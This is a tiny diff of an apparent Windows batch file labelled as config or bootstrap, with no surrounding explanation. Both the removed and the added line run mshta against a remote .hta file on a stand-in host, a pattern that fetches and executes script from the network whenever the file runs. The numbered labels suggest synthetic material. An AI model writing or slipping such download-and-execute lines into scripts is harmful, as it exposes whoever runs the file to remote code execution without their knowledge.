@@ -1,2 +1,2 @@
-REM bootstrap 9122 v1
-mshta http://static.metrics-node.example/update.hta
+REM config 7514 v1
+mshta http://cdn-update.example/update.hta
